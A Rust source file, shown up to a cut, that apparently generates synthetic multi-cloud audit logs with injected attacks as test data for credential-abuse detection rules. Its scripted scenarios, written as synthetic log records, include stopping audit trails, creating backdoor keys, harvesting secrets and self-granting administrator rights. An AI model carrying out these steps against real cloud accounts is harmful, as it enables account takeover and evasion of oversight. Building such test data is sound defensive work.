//! A realistic scenario generator: multi-cloud call logs in each cloud's native delivery
//! format, matching credential reports, a GeoIP database for its networks, IP / ASN lists, a
//! leak feed, policies (an allowlisted CI pool, an IP-hidden partner key) and a ground-truth
//! file of the attacks it injected.
//!
//! Deterministic for a seed: the same `--seed` writes the same bytes.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};

use chrono::{DateTime, Duration, TimeZone, Utc};
use flate2::Compression;
use flate2::write::GzEncoder;
use ipnetwork::IpNetwork;
use rand::seq::IndexedRandom;
use rand::{RngExt, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::Serialize;
use serde_json::{Value, json};

use crate::enrich::mmdb::{GeoRecord, MmdbWriter};
use crate::event::Cloud;

/// What to generate.
#[derive(Debug, Clone)]
pub struct SimOptions {
    pub seed: u64,
    pub keys: usize,
    pub days: i64,
    pub start: DateTime<Utc>,
    pub out: PathBuf,
    /// Calls per key per day (median of a skewed distribution).
    pub calls_per_day: f64,
}

impl Default for SimOptions {
    fn default() -> Self {
        SimOptions {
            seed: 1,
            keys: 40,
            days: 10,
            start: Utc
                .with_ymd_and_hms(2025, 6, 2, 0, 0, 0)
                .single()
                .unwrap_or_default(),
            out: PathBuf::from("scenario"),
            calls_per_day: 12.0,
        }
    }
}

/// One injected attack and the rules that must raise an alarm for it.
#[derive(Debug, Clone, Serialize, serde::Deserialize)]
pub struct Injected {
    pub id: String,
    pub description: String,
    pub cloud: Cloud,
    /// The key the alarms are about.
    pub key: String,
    pub at: DateTime<Utc>,
    pub expect: Vec<String>,
}

/// The ground truth of a scenario.
#[derive(Debug, Clone, Serialize, serde::Deserialize)]
pub struct GroundTruth {
    pub seed: u64,
    pub keys: usize,
    pub days: i64,
    pub start: DateTime<Utc>,
    pub events: u64,
    pub attacks: Vec<Injected>,
    /// Benign traffic that must raise no alarm of the listed rules.
    pub quiet: Vec<Quiet>,
}

#[derive(Debug, Clone, Serialize, serde::Deserialize)]
pub struct Quiet {
    pub description: String,
    pub key: String,
    /// Rule ids that must not fire for this key (`*` for all).
    pub rules: Vec<String>,
}

#[derive(Debug, Clone)]
struct City {
    name: &'static str,
    country: &'static str,
    country_name: &'static str,
    lat: f64,
    lon: f64,
}

const CITIES: &[City] = &[
    City {
        name: "Ashburn",
        country: "US",
        country_name: "United States",
        lat: 39.04,
        lon: -77.49,
    },
    City {
        name: "Seattle",
        country: "US",
        country_name: "United States",
        lat: 47.61,
        lon: -122.33,
    },
    City {
        name: "Frankfurt",
        country: "DE",
        country_name: "Germany",
        lat: 50.11,
        lon: 8.68,
    },
    City {
        name: "London",
        country: "GB",
        country_name: "United Kingdom",
        lat: 51.51,
        lon: -0.13,
    },
    City {
        name: "Hangzhou",
        country: "CN",
        country_name: "China",
        lat: 30.27,
        lon: 120.16,
    },
    City {
        name: "Shanghai",
        country: "CN",
        country_name: "China",
        lat: 31.23,
        lon: 121.47,
    },
    City {
        name: "Shenzhen",
        country: "CN",
        country_name: "China",
        lat: 22.54,
        lon: 114.06,
    },
    City {
        name: "Beijing",
        country: "CN",
        country_name: "China",
        lat: 39.90,
        lon: 116.41,
    },
    City {
        name: "Singapore",
        country: "SG",
        country_name: "Singapore",
        lat: 1.29,
        lon: 103.85,
    },
    City {
        name: "Tokyo",
        country: "JP",
        country_name: "Japan",
        lat: 35.68,
        lon: 139.69,
    },
    City {
        name: "Moscow",
        country: "RU",
        country_name: "Russia",
        lat: 55.76,
        lon: 37.62,
    },
    City {
        name: "Sao Paulo",
        country: "BR",
        country_name: "Brazil",
        lat: -23.55,
        lon: -46.63,
    },
];

/// A /24 of the simulated internet: where it is and whose it is.
#[derive(Debug, Clone)]
struct Net {
    prefix: [u8; 3],
    city: usize,
    asn: u32,
    org: &'static str,
}

impl Net {
    fn ip(&self, host: u8) -> String {
        format!(
            "{}.{}.{}.{}",
            self.prefix[0],
            self.prefix[1],
            self.prefix[2],
            host.max(1)
        )
    }
}

const AMAZON_ASN: u32 = 16509;
const ALIBABA_ASN: u32 = 37963;
const TENCENT_ASN: u32 = 45090;
const HOSTING_ASN: u32 = 64700;

/// The simulated networks: office / ISP nets per city (private-use ASNs), the clouds' own nets,
/// a hosting provider (where Tor exits and attackers live).
fn networks() -> Vec<Net> {
    let mut nets = Vec::new();
    // 198.18.0.0/15 (benchmarking space) carved into /24s.
    for (ci, _) in CITIES.iter().enumerate() {
        for j in 0..3u8 {
            nets.push(Net {
                prefix: [198, 18, (ci as u8) * 8 + j],
                city: ci,
                asn: 64600 + ci as u32 * 3 + u32::from(j),
                org: "Simulated ISP",
            });
        }
    }
    for (ci, asn, org) in [
        (0usize, AMAZON_ASN, "AMAZON-02"),
        (2, AMAZON_ASN, "AMAZON-02"),
        (4, ALIBABA_ASN, "ALIBABA-CN-NET"),
        (6, TENCENT_ASN, "TENCENT-NET"),
    ] {
        nets.push(Net {
            prefix: [198, 19, nets.len() as u8],
            city: ci,
            asn,
            org,
        });
    }
    for ci in [2usize, 8, 10, 11] {
        nets.push(Net {
            prefix: [198, 19, 100 + ci as u8],
            city: ci,
            asn: HOSTING_ASN,
            org: "Simulated VPS Hosting",
        });
    }
    nets
}

fn net_of(nets: &[Net], city: usize, asn_pred: impl Fn(u32) -> bool) -> usize {
    nets.iter()
        .position(|n| n.city == city && asn_pred(n.asn))
        .unwrap_or(0)
}

#[derive(Debug, Clone)]
struct Key {
    cloud: Cloud,
    id: String,
    user: String,
    uin: String,
    home: Vec<String>,
    region: &'static str,
    ua: &'static str,
    apis: Vec<(&'static str, &'static str)>,
    rate: f64,
    tz: i64,
}

const AWS_UAS: &[&str] = &[
    "aws-sdk-go-v2/1.25.0 os/linux lang/go#1.22.0 md/GOOS#linux",
    "Boto3/1.34.60 md/Botocore#1.34.60 ua/2.0 os/linux#5.15.0 md/arch#x86_64 lang/python#3.11.8",
    "aws-sdk-java/2.25.10 Linux/5.10 OpenJDK_64-Bit_Server_VM/17.0.10",
    "aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.11.8",
];
const ALI_UAS: &[&str] = &[
    "AlibabaCloud (Linux 5.10; amd64) Python/3.10.12 Core/2.13.3",
    "aliyun-sdk-java/4.6.4 Java/17",
];
const TC_UAS: &[&str] = &[
    "TencentCloudSDK/Python 3.0.1100 Python/3.11",
    "TencentCloudSDK/Go 1.0.800",
    "tccli/3.0.1100.1",
];

const AWS_APIS: &[(&str, &str)] = &[
    ("s3", "GetObject"),
    ("s3", "PutObject"),
    ("s3", "ListBuckets"),
    ("ec2", "DescribeInstances"),
    ("ec2", "DescribeVolumes"),
    ("dynamodb", "GetItem"),
    ("dynamodb", "PutItem"),
    ("sqs", "SendMessage"),
    ("sqs", "ReceiveMessage"),
    ("lambda", "Invoke"),
    ("cloudwatch", "PutMetricData"),
    ("logs", "PutLogEvents"),
    ("kms", "Decrypt"),
    ("sns", "Publish"),
    ("ecr", "GetAuthorizationToken"),
];
const ALI_APIS: &[(&str, &str)] = &[
    ("ecs", "DescribeInstances"),
    ("ecs", "DescribeDisks"),
    ("oss", "GetObject"),
    ("oss", "PutObject"),
    ("slb", "DescribeLoadBalancers"),
    ("rds", "DescribeDBInstances"),
    ("cms", "PutCustomMetric"),
    ("vpc", "DescribeVpcs"),
];
const TC_APIS: &[(&str, &str)] = &[
    ("cvm", "DescribeInstances"),
    ("cos", "GetObject"),
    ("cos", "PutObject"),
    ("cbs", "DescribeDisks"),
    ("clb", "DescribeLoadBalancers"),
    ("cdb", "DescribeDBInstances"),
    ("monitor", "PutMonitorData"),
    ("vpc", "DescribeVpcs"),
];

/// One simulated call, before it is written in its cloud's format.
#[derive(Debug, Clone)]
struct Call {
    time: DateTime<Utc>,
    cloud: Cloud,
    key: Option<String>,
    user: String,
    uin: String,
    principal: &'static str,
    role: Option<String>,
    ip: String,
    ua: String,
    region: String,
    service: String,
    action: String,
    read_only: bool,
    error: Option<String>,
    console: bool,
    params: Value,
    response: Value,
    token: bool,
}

struct Sim {
    rng: ChaCha8Rng,
    nets: Vec<Net>,
    counter: u64,
}

const AWS_ACCOUNT: &str = "210987654321";
const ALI_ACCOUNT: &str = "1234567890123456";
const TC_OWNER: &str = "100011110000";

fn key_id(cloud: Cloud, n: usize, tag: &str) -> String {
    match cloud {
        Cloud::Aws => format!("AKIA{tag}{n:0>w$}", w = 16 - tag.len()),
        Cloud::Alibaba => format!("LTAI5t{tag}{n:0>w$}", w = 18 - tag.len()),
        Cloud::Tencent => format!("AKID{tag}{n:0>w$}", w = 32 - tag.len()),
    }
}

impl Sim {
    fn call(&mut self, k: &Key, time: DateTime<Utc>, service: &str, action: &str) -> Call {
        let read_only = ["Describe", "Get", "List", "Lookup", "Receive"]
            .iter()
            .any(|p| action.starts_with(p));
        Call {
            time,
            cloud: k.cloud,
            key: Some(k.id.clone()),
            user: k.user.clone(),
            uin: k.uin.clone(),
            principal: "user",
            role: None,
            ip: k.home.choose(&mut self.rng).cloned().unwrap_or_default(),
            ua: k.ua.to_owned(),
            region: k.region.to_owned(),
            service: service.to_owned(),
            action: action.to_owned(),
            read_only,
            error: None,
            console: false,
            params: Value::Null,
            response: Value::Null,
            token: false,
        }
    }

    fn id(&mut self) -> String {
        self.counter += 1;
        let r: u64 = self.rng.random();
        format!(
            "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}",
            self.counter as u32,
            (r >> 48) as u16,
            (r >> 36) & 0xfff,
            (r >> 24) & 0xfff,
            r & 0xffff_ffff_ffff
        )
    }
}

fn aws_source(service: &str) -> String {
    let s = match service {
        "cloudwatch" => "monitoring",
        other => other,
    };
    format!("{s}.amazonaws.com")
}

fn capitalise(s: &str) -> String {
    let mut c = s.chars();
    c.next()
        .map(|f| f.to_ascii_uppercase().to_string() + c.as_str())
        .unwrap_or_default()
}

/// The call in its cloud's native record form.
fn native(c: &Call, event_id: &str) -> Value {
    let time = c.time.to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
    match c.cloud {
        Cloud::Aws => {
            let mut identity = match (c.principal, &c.role) {
                ("root", _) => {
                    json!({"type": "Root", "principalId": AWS_ACCOUNT, "arn": format!("arn:aws:iam::{AWS_ACCOUNT}:root"), "accountId": AWS_ACCOUNT})
                }
                ("assumed_role", Some(role)) => json!({
                    "type": "AssumedRole",
                    "principalId": format!("AROASIMULATEDROLE01:{}", c.user),
                    "arn": format!("arn:aws:sts::{AWS_ACCOUNT}:assumed-role/{role}/{}", c.user),
                    "accountId": AWS_ACCOUNT,
                    "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROASIMULATEDROLE01", "arn": format!("arn:aws:iam::{AWS_ACCOUNT}:role/{role}"), "accountId": AWS_ACCOUNT, "userName": role},
                        "attributes": {"creationDate": time, "mfaAuthenticated": "false"}, "ec2RoleDelivery": "2.0"}
                }),
                _ => {
                    json!({"type": "IAMUser", "principalId": format!("AIDA{}", &c.uin), "arn": format!("arn:aws:iam::{AWS_ACCOUNT}:user/{}", c.user), "accountId": AWS_ACCOUNT, "userName": c.user})
                }
            };
            identity["accessKeyId"] = json!(c.key.clone().unwrap_or_default());
            let mut e = json!({
                "eventVersion": "1.09", "userIdentity": identity, "eventTime": time, "eventSource": aws_source(&c.service),
                "eventName": c.action, "awsRegion": c.region, "sourceIPAddress": c.ip, "userAgent": c.ua,
                "requestParameters": c.params, "responseElements": c.response, "requestID": event_id.to_uppercase(),
                "eventID": event_id, "readOnly": c.read_only, "eventType": "AwsApiCall", "managementEvent": true,
                "recipientAccountId": AWS_ACCOUNT, "eventCategory": "Management",
            });
            if let Some(err) = &c.error {
                e["errorCode"] = json!(err);
                e["errorMessage"] = json!(format!(
                    "User: arn:aws:iam::{AWS_ACCOUNT}:user/{} is not authorized to perform: {}:{}",
                    c.user, c.service, c.action
                ));
            }
            if c.console {
                e["sessionCredentialFromConsole"] = json!("true");
            }
            e
        }
        Cloud::Alibaba => {
            let identity = match c.principal {
                "root" => {
                    json!({"type": "root-account", "principalId": ALI_ACCOUNT, "accountId": ALI_ACCOUNT, "accessKeyId": c.key})
                }
                _ => {
                    json!({"type": "ram-user", "principalId": c.uin, "accountId": ALI_ACCOUNT, "accessKeyId": c.key, "userName": c.user})
                }
            };
            let mut e = json!({
                "eventId": event_id.to_uppercase(), "eventVersion": 1, "eventSource": format!("{}.{}.aliyuncs.com", c.service, c.region),
                "sourceIpAddress": c.ip, "userAgent": c.ua, "eventRW": if c.read_only { "Read" } else { "Write" },
                "eventType": if c.console { "ConsoleOperation" } else { "ApiCall" }, "userIdentity": identity,
                "serviceName": capitalise(&c.service), "requestId": event_id, "eventTime": time, "isGlobal": false,
                "acsRegion": c.region, "eventName": c.action, "requestParameters": c.params, "responseElements": c.response,
            });
            if let Some(err) = &c.error {
                e["errorCode"] = json!(err);
                e["errorMessage"] = json!("You are not authorized to do this action.");
            }
            json!({"__topic__": "actiontrail_audit_event", "__source__": "actiontrail", "__time__": c.time.timestamp().to_string(), "event": e})
        }
        Cloud::Tencent => {
            let session = json!({"token": if c.token { "sim-session-token" } else { "" }, "uin": c.uin.parse::<u64>().unwrap_or(0),
                "ownerUin": TC_OWNER.parse::<u64>().unwrap_or(0), "appId": 1250000000u64, "mfa": 0});
            let identity = json!({
                "principalId": c.uin, "accountId": TC_OWNER, "secretId": c.key.clone().unwrap_or_default(),
                "sessionContext": session.to_string(), "type": if c.principal == "root" { "Root" } else { "CAMUser" }, "userName": c.user,
            });
            json!({
                "userIdentity": identity, "eventRegion": c.region, "eventVersion": 2, "errorCode": c.error.clone().unwrap_or_else(|| "0".into()),
                "errorMessage": "", "requestID": event_id, "eventID": event_id, "apiVersion": "3.0",
                "eventType": if c.console { "ConsoleCall" } else { "ApiCall" }, "actionType": if c.read_only { "Read" } else { "Write" },
                "apiErrorCode": if c.error.is_some() { 4102 } else { 0 }, "userAgent": c.ua, "eventTime": c.time.timestamp(),
                "sourceIPAddress": c.ip, "eventSource": format!("{}.tencentcloudapi.com", c.service), "resourceType": c.service,
                "eventName": c.action, "requestParameters": c.params.to_string(), "responseElements": c.response.to_string(),
                "resources": "[\"*\"]", "sensitiveAction": "0",
            })
        }
    }
}

/// Generates the scenario into `o.out`; returns its ground truth.
pub fn generate(o: &SimOptions) -> std::io::Result<GroundTruth> {
    let mut sim = Sim {
        rng: ChaCha8Rng::seed_from_u64(o.seed),
        nets: networks(),
        counter: 0,
    };
    let nets = sim.nets.clone();
    let office_nets: Vec<usize> = (0..nets.len())
        .filter(|i| (64600..64700).contains(&nets[*i].asn))
        .collect();
    // --- keys ---
    let mut keys: Vec<Key> = Vec::new();
    for n in 0..o.keys.max(12) {
        let roll: f64 = sim.rng.random();
        let cloud = if roll < 0.6 {
            Cloud::Aws
        } else if roll < 0.8 {
            Cloud::Alibaba
        } else {
            Cloud::Tencent
        };
        let city_choices: &[usize] = match cloud {
            Cloud::Aws => &[0, 1, 2, 3, 8, 9],
            Cloud::Alibaba => &[4, 5, 7, 8],
            Cloud::Tencent => &[5, 6, 7, 8],
        };
        let city = *city_choices.choose(&mut sim.rng).unwrap_or(&0);
        let city_nets: Vec<usize> = office_nets
            .iter()
            .copied()
            .filter(|i| nets[*i].city == city)
            .collect();
        let net = &nets[*city_nets.choose(&mut sim.rng).unwrap_or(&office_nets[0])];
        let home: Vec<String> = (0..sim.rng.random_range(1..=2))
            .map(|_| net.ip(sim.rng.random_range(2..250)))
            .collect();
        let (uas, apis, regions): (&[&str], &[(&str, &str)], &[&str]) = match cloud {
            Cloud::Aws => (
                AWS_UAS,
                AWS_APIS,
                &["us-east-1", "us-west-2", "eu-central-1", "ap-southeast-1"],
            ),
            Cloud::Alibaba => (
                ALI_UAS,
                ALI_APIS,
                &["cn-hangzhou", "cn-shanghai", "cn-beijing"],
            ),
            Cloud::Tencent => (
                TC_UAS,
                TC_APIS,
                &["ap-guangzhou", "ap-shanghai", "ap-beijing"],
            ),
        };
        let mut mine: Vec<(&str, &str)> = apis.to_vec();
        let keep = sim.rng.random_range(3..=mine.len().min(8));
        for i in (1..mine.len()).rev() {
            let j = sim.rng.random_range(0..=i);
            mine.swap(i, j);
        }
        mine.truncate(keep);
        // Some SDKs check their identity now and then.
        if sim.rng.random_bool(0.05) {
            mine.push(("sts", "GetCallerIdentity"));
        }
        let rate = o.calls_per_day * (sim.rng.random::<f64>() * 2.0 - 1.0).exp();
        keys.push(Key {
            cloud,
            id: key_id(cloud, n, "SIM"),
            user: format!(
                "{}-{n:05}",
                ["app", "svc", "etl", "web", "batch", "report"][n % 6]
            ),
            uin: format!("{}", 200_000_000_000u64 + n as u64),
            home,
            region: regions.choose(&mut sim.rng).copied().unwrap_or("us-east-1"),
            ua: uas.choose(&mut sim.rng).copied().unwrap_or("sdk"),
            apis: mine,
            rate,
            tz: match CITIES[city].country {
                "US" => -5,
                "CN" | "SG" => 8,
                "JP" => 9,
                _ => 1,
            },
        });
    }
    // Special benign keys: CI (allowlisted pool), a partner key with hidden IPs.
    let ci_net = &nets[net_of(&nets, 0, |a| a == AMAZON_ASN)];
    let ci_ips: Vec<String> = (10..14).map(|h| ci_net.ip(h)).collect();
    let ci_cidr = format!(
        "{}.{}.{}.0/24",
        ci_net.prefix[0], ci_net.prefix[1], ci_net.prefix[2]
    );
    let ci_count = (o.keys / 50).max(1);
    let mut ci_keys = Vec::new();
    for i in 0..ci_count {
        let k = Key {
            cloud: Cloud::Aws,
            id: key_id(Cloud::Aws, i, "CIPIPE"),
            user: format!("ci-deployer-{i}"),
            uin: format!("{}", 300_000_000_000u64 + i as u64),
            home: ci_ips.clone(),
            region: "us-east-1",
            ua: "aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.11.8 exec-env/GitHubActions",
            apis: vec![
                ("iam", "PutRolePolicy"),
                ("iam", "CreateRole"),
                ("ssm", "SendCommand"),
                ("cloudformation", "DescribeStacks"),
                ("sts", "GetCallerIdentity"),
            ],
            rate: 30.0,
            tz: -5,
        };
        ci_keys.push(k.id.clone());
        keys.push(k);
    }
    let partner_ips: Vec<String> = [2usize, 3, 9, 11, 1]
        .iter()
        .map(|c| nets[net_of(&nets, *c, |a| (64600..64700).contains(&a))].ip(77))
        .collect();
    let partner = Key {
        cloud: Cloud::Aws,
        id: key_id(Cloud::Aws, 1, "PARTNER"),
        user: "partner-sync".into(),
        uin: "400000000001".into(),
        home: partner_ips,
        region: "eu-central-1",
        ua: AWS_UAS[1],
        apis: vec![
            ("s3", "GetObject"),
            ("s3", "PutObject"),
            ("s3", "ListBucket"),
        ],
        rate: 40.0,
        tz: 1,
    };
    keys.push(partner.clone());

    // --- benign noise: some keys move to a new IP (ISP change), some travel for a day ---
    let drift_day = (o.days * 4) / 5;
    let mut drifted: Vec<(usize, String)> = Vec::new();
    let mut travel: Vec<(usize, String)> = Vec::new();
    for (i, k) in keys.iter().enumerate() {
        if k.id.contains("CIPIPE") || k.id.contains("PARTNER") {
            continue;
        }
        if sim.rng.random_bool(0.01) {
            let city = nets
                .iter()
                .position(|n| {
                    k.home.first().is_some_and(|h| {
                        h.starts_with(&format!("{}.{}.{}.", n.prefix[0], n.prefix[1], n.prefix[2]))
                    })
                })
                .map_or(0, |n| nets[n].city);
            let same_city: Vec<usize> = office_nets
                .iter()
                .copied()
                .filter(|n| nets[*n].city == city)
                .collect();
            let n = *same_city.choose(&mut sim.rng).unwrap_or(&office_nets[0]);
            drifted.push((i, nets[n].ip(sim.rng.random_range(2..250))));
        } else if sim.rng.random_bool(0.003) {
            let abroad = office_nets[sim.rng.random_range(0..office_nets.len())];
            travel.push((i, nets[abroad].ip(sim.rng.random_range(2..250))));
        }
    }

    // --- benign traffic ---
    let mut calls: Vec<Call> = Vec::new();
    for day in 0..o.days {
        let day_start = o.start + Duration::days(day);
        for k in &keys {
            let n = sample_poisson(&mut sim.rng, k.rate);
            for _ in 0..n {
                // Working hours in the key's time zone, with some night jobs.
                let hour = if sim.rng.random_bool(0.8) {
                    sim.rng.random_range(8..19)
                } else {
                    sim.rng.random_range(0..24)
                };
                let secs = ((hour - k.tz).rem_euclid(24)) * 3600 + sim.rng.random_range(0..3600);
                let t = day_start + Duration::seconds(secs);
                let (s, a) = *k.apis.choose(&mut sim.rng).unwrap_or(&("s3", "GetObject"));
                let mut c = sim.call(k, t, s, a);
                if day >= drift_day
                    && let Some((_, ip)) = drifted.iter().find(|(i, _)| keys[*i].id == k.id)
                {
                    c.ip = ip.clone();
                }
                if day == drift_day
                    && let Some((_, ip)) = travel.iter().find(|(i, _)| keys[*i].id == k.id)
                {
                    c.ip = ip.clone();
                }
                if s == "iam" || s == "ssm" {
                    c.params = json!({"roleName": "app-role", "policyName": "app-inline"});
                }
                if sim.rng.random_bool(0.01) {
                    c.error = Some(
                        match k.cloud {
                            Cloud::Aws => "AccessDenied",
                            Cloud::Alibaba => "Forbidden.RAM",
                            Cloud::Tencent => "AuthFailure.UnauthorizedOperation",
                        }
                        .to_owned(),
                    );
                }
                calls.push(c);
            }
        }
        // EC2 instance-role sessions calling from inside AWS.
        let ec2_net = &nets[net_of(&nets, 0, |a| a == AMAZON_ASN)];
        for s in 0..3 {
            let session_key = format!("ASIASIMEC2{day:02}{s:02}{:06}", 0);
            let instance = format!("i-0{:016x}", (day as u64) * 7 + s);
            for m in 0..5 {
                calls.push(Call {
                    time: day_start + Duration::minutes(60 * (s as i64 + 1) + m * 7),
                    cloud: Cloud::Aws,
                    key: Some(session_key.clone()),
                    user: instance.clone(),
                    uin: "0".into(),
                    principal: "assumed_role",
                    role: Some("web-instance-role".into()),
                    ip: ec2_net.ip(100 + s as u8),
                    ua: AWS_UAS[0].into(),
                    region: "us-east-1".into(),
                    service: "s3".into(),
                    action: "GetObject".into(),
                    read_only: true,
                    error: None,
                    console: false,
                    params: json!({"bucketName": "assets"}),
                    response: Value::Null,
                    token: true,
                });
            }
        }
    }

    // --- attacks ---
    let mut attacks: Vec<Injected> = Vec::new();
    let attack_day = (o.days - 2).max(0);
    let base = o.start + Duration::days(attack_day) + Duration::hours(9);
    let tor_net = nets[net_of(&nets, 10, |a| a == HOSTING_ASN)].clone();
    let tor_ip = tor_net.ip(66);
    let sg_host = nets[net_of(&nets, 8, |a| a == HOSTING_ASN)].ip(23);
    let br_host = nets[net_of(&nets, 11, |a| a == HOSTING_ASN)].ip(45);
    let de_host = nets[net_of(&nets, 2, |a| a == HOSTING_ASN)].ip(12);
    let victims = |cloud: Cloud, keys: &[Key], skip: usize| -> Key {
        keys.iter()
            .filter(|k| k.cloud == cloud && !k.id.contains("CIPIPE") && !k.id.contains("PARTNER"))
            .nth(skip)
            .cloned()
            .unwrap_or_else(|| keys[0].clone())
    };
    let at = |n: i64| base + Duration::minutes(n * 37);
    let mut push =
        |id: &str, desc: &str, cloud: Cloud, key: &str, t: DateTime<Utc>, expect: &[&str]| {
            attacks.push(Injected {
                id: id.to_owned(),
                description: desc.to_owned(),
                cloud,
                key: key.to_owned(),
                at: t,
                expect: expect.iter().map(|s| (*s).to_owned()).collect(),
            });
        };

    // A1: a leaked key validated and used from a Tor exit in a new country.
    let v = victims(Cloud::Aws, &keys, 0);
    let t = at(0);
    for (i, (s, a)) in [
        ("sts", "GetCallerIdentity"),
        ("s3", "ListBuckets"),
        ("iam", "ListUsers"),
        ("iam", "CreateUser"),
    ]
    .iter()
    .enumerate()
    {
        let mut c = sim.call(&v, t + Duration::seconds(i as i64 * 40), s, a);
        c.ip = tor_ip.clone();
        c.ua = "Boto3/1.34.60 md/Botocore#1.34.60 ua/2.0 os/linux#6.5.0".into();
        if *a == "CreateUser" {
            c.params = json!({"userName": "support-sync"});
        }
        calls.push(c);
    }
    // The new country, network and IP are the leak's use: `ak.leaked_key_use` supersedes them
    // on the same calls (one alarm for the key, its IPs listed).
    let expect = vec![
        "ak.leaked_key_use",
        "ak.key_probe",
        "ak.sensitive_api_suspicious_ip",
    ];
    push(
        "leaked-key-from-tor",
        "key found in a public repository, used from a Tor exit in Russia",
        Cloud::Aws,
        &v.id,
        t,
        &expect,
    );
    let leaked_key = v.id.clone();

    // A2: enumeration burst (Alibaba).
    let v = victims(Cloud::Alibaba, &keys, 0);
    let t = at(1);
    for i in 0..30 {
        let mut c = sim.call(
            &v,
            t + Duration::milliseconds(i * 600),
            "ecs",
            &format!(
                "Describe{}",
                [
                    "Instances",
                    "Disks",
                    "Images",
                    "SecurityGroups",
                    "Snapshots",
                    "KeyPairs",
                    "Vpcs",
                    "VSwitches",
                    "RouteTables",
                    "Eips"
                ][i as usize % 10]
            ),
        );
        c.action = format!(
            "{}{}",
            c.action,
            if i >= 10 {
                format!("V{}", i / 10)
            } else {
                String::new()
            }
        );
        c.ip = de_host.clone();
        calls.push(c);
    }
    push(
        "enumeration",
        "30 distinct Describe calls in 18 seconds from a hosting IP",
        Cloud::Alibaba,
        &v.id,
        t,
        &["ak.enumeration_burst"],
    );

    // A3: access-denied probing (Tencent).
    let v = victims(Cloud::Tencent, &keys, 0);
    let t = at(2);
    for i in 0..25 {
        let mut c = sim.call(
            &v,
            t + Duration::seconds(i * 11),
            "cam",
            [
                "ListUsers",
                "GetPolicy",
                "ListAttachedUserPolicies",
                "CreateUser",
                "ListAccessKeys",
            ][i as usize % 5],
        );
        c.error = Some("AuthFailure.UnauthorizedOperation".into());
        calls.push(c);
    }
    push(
        "access-denied-probing",
        "25 denied CAM calls in 5 minutes",
        Cloud::Tencent,
        &v.id,
        t,
        &["ak.access_denied_burst"],
    );

    // A4: backdoor key for another user, used minutes later.
    let v = victims(Cloud::Aws, &keys, 1);
    let t = at(3);
    let backdoor = key_id(Cloud::Aws, 4, "BACKDOOR");
    let mut c = sim.call(&v, t, "iam", "CreateAccessKey");
    c.params = json!({"userName": "svc-backup"});
    c.response = json!({"accessKey": {"accessKeyId": backdoor, "status": "Active", "userName": "svc-backup"}});
    calls.push(c);
    let mut c = sim.call(&v, t + Duration::minutes(6), "s3", "ListBuckets");
    c.key = Some(backdoor.clone());
    c.user = "svc-backup".into();
    c.ip = br_host.clone();
    calls.push(c);
    push(
        "backdoor-key",
        "access key created for svc-backup",
        Cloud::Aws,
        &v.id,
        t,
        &["ak.backdoor_key", "ak.sensitive_api"],
    );
    push(
        "backdoor-key-used",
        "the backdoor key used 6 minutes after creation",
        Cloud::Aws,
        &backdoor,
        t + Duration::minutes(6),
        &["ak.new_key_quick_use"],
    );

    // A5: audit logging stopped on the three clouds.
    for (n, cloud, service, skip) in [
        (4, Cloud::Aws, "cloudtrail", 2),
        (5, Cloud::Alibaba, "actiontrail", 1),
        (6, Cloud::Tencent, "cloudaudit", 1),
    ] {
        let v = victims(cloud, &keys, skip);
        let t = at(n);
        let mut c = sim.call(&v, t, service, "StopLogging");
        c.params = json!({"name": "org-trail", "Name": "org-trail"});
        calls.push(c);
        push(
            &format!("trail-stopped-{cloud}"),
            "audit trail stopped",
            cloud,
            &v.id,
            t,
            &["ak.audit_tamper"],
        );
    }

    // A6: secrets harvest.
    let v = victims(Cloud::Aws, &keys, 3);
    let t = at(7);
    for i in 0..30 {
        let mut c = sim.call(
            &v,
            t + Duration::seconds(i * 6),
            "secretsmanager",
            "GetSecretValue",
        );
        c.params = json!({"secretId": format!("prod/service-{i}/db-password")});
        calls.push(c);
    }
    push(
        "secret-harvest",
        "30 distinct secrets read in 3 minutes",
        Cloud::Aws,
        &v.id,
        t,
        &["ak.secret_harvest"],
    );

    // A7: dormant key (report: last used 150 days ago) used again.
    let dormant = key_id(Cloud::Aws, 7, "DORMANT");
    let t = at(8);
    let dormant_key = Key {
        id: dormant.clone(),
        user: "legacy-export".into(),
        home: vec![br_host.clone()],
        ..keys[0].clone()
    };
    for i in 0..3 {
        let mut c = sim.call(&dormant_key, t + Duration::minutes(i), "s3", "GetObject");
        c.cloud = Cloud::Aws;
        c.region = "us-east-1".into();
        calls.push(c);
    }
    push(
        "dormant-key",
        "a key unused for 150 days used again",
        Cloud::Aws,
        &dormant,
        t,
        &["ak.dormant_key_use"],
    );

    // A8: offensive tooling (Kali) on Alibaba.
    let v = victims(Cloud::Alibaba, &keys, 2);
    let t = at(9);
    let mut c = sim.call(&v, t, "ecs", "DescribeInstances");
    c.ua = "aliyun-cli/3.0.200 (Linux 6.6.9-kali1-amd64; kali-rolling)".into();
    calls.push(c);
    push(
        "hacker-tool",
        "aliyun-cli on Kali Linux",
        Cloud::Alibaba,
        &v.id,
        t,
        &["ak.hacker_tool"],
    );

    // A9: root access key.
    let root_key = key_id(Cloud::Aws, 9, "ROOT");
    let t = at(10);
    let mut c = sim.call(&keys[0], t, "s3", "ListBuckets");
    c.cloud = Cloud::Aws;
    c.region = "us-east-1".into();
    c.key = Some(root_key.clone());
    c.principal = "root";
    c.user = "root".into();
    calls.push(c);
    push(
        "root-key",
        "the root account's access key used",
        Cloud::Aws,
        &root_key,
        t,
        &["ak.root_key_use"],
    );

    // A10: self-granted administrator.
    let v = victims(Cloud::Aws, &keys, 4);
    let t = at(11);
    let mut c = sim.call(&v, t, "iam", "AttachUserPolicy");
    c.params =
        json!({"userName": v.user, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"});
    calls.push(c);
    push(
        "privilege-escalation",
        "AdministratorAccess attached to the caller itself",
        Cloud::Aws,
        &v.id,
        t,
        &["ak.privilege_escalation", "ak.sensitive_api"],
    );

    // A11: impossible travel.
    let v = victims(Cloud::Aws, &keys, 5);
    let t = at(12);
    calls.push(sim.call(&v, t, "s3", "ListBuckets"));
    let mut c = sim.call(&v, t + Duration::minutes(20), "s3", "ListBuckets");
    // Singapore, unless the key lives there (then Sao Paulo): the second call is always far.
    let home_city = nets
        .iter()
        .find(|n| {
